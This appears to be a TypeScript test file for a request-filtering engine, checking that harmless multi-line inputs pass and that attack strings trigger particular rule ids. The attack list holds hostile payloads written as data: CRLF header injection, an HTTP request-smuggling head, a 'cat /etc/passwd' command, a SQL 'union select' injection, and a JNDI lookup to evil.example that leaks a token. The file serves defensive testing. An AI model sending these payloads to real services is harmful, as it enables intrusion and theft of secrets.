import { testAttacks, testHarmless } from './core-testing.ts'
import type { TestRequest } from './engine/testing.ts'

const json = { 'Content-Type': 'application/json' }

/** What people and programs send in several lines, and what looks like an attack beside it. */
const harmless: readonly (readonly [string, TestRequest])[] = [
  ...(
    [
      [
        'an answer shown in documentation',
        '### Response\n\n> **Note:** shortened.\nSome fields are left out.\n\n```http\nHTTP/1.1 200 OK\nContent-Type: application/json\n\n{}\n```',
      ],
      [
        'a mail with its envelope',
        'From ada@example.org Thu Feb 22 11:20:31 2024\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b1"\r\nSubject: Hello\r\n\r\n--b1',
      ],
      [
        'a table of types',
        '## Parameters\n\n|Name|Type|Required|\n|--|--|--|\n|*n*| `int` | yes |\n| Store | MySQL | no |',
      ],
      [
        'a query below a sentence',
        'The page that shows orders asks for them so:\n\n```sql\nSELECT id, total FROM orders WHERE total > 7 ORDER BY id\n```\n',
      ],
      [
        'lines of a program',
        '```csharp\nvar uri = "https://store.example";\nvar client = new Client(uri);\n```',
      ],
      [
        'settings of a collector',
        'exporters:\n  otlphttp:\n    headers:\n      Authorization: "${env:STORE_TOKEN}"\n',
      ],
    ] as const
  ).map(([what, text]): readonly [string, TestRequest] => [
    `${what} in a field`,
    { method: 'POST', headers: json, body: JSON.stringify({ id: 7, body: text }) },
  ]),
  [
    'a crawler of the Internet Archive',
    { headers: { 'User-Agent': 'Mozilla/5.0 (compatible; internet archive reader; Windows NT 5.1)' } },
  ],
  ['a program below a folder of scripts', { target: '/repos/ada/site/contents/scripts/build.sh' }],
]

testHarmless(harmless)

const attacks: readonly (readonly [string, number, string])[] = [
  ['a field behind a line break', 2084, 'x\r\nSet-Cookie: a=b'],
  ['a field behind fields', 2084, 'x\r\nX-One: 1\r\n<b>\r\nSet-Cookie: a=b'],
  [
    'a second message behind its head',
    2084,
    ':method GET\r\n:path /\r\n:scheme https\r\nTransfer-Encoding: chunked',
  ],
  ['a command in a cell with an argument', 2061, '|--|--|\n|Name|cat /etc/passwd|'],
  ['a statement that leaves a literal above a fence', 2041, "x' union select 1,2 -- \n```sql\nSELECT 1\n```"],
  ['a lookup among lines', 2065, 'a: 1\nb: ${jndi:ldap://evil.example/${env:STORE_TOKEN}}'],
]

testAttacks(
  attacks.map(([what, id, text]) => [
    what,
    id,
    { method: 'POST', headers: json, body: JSON.stringify({ text }) },
  ]),
)
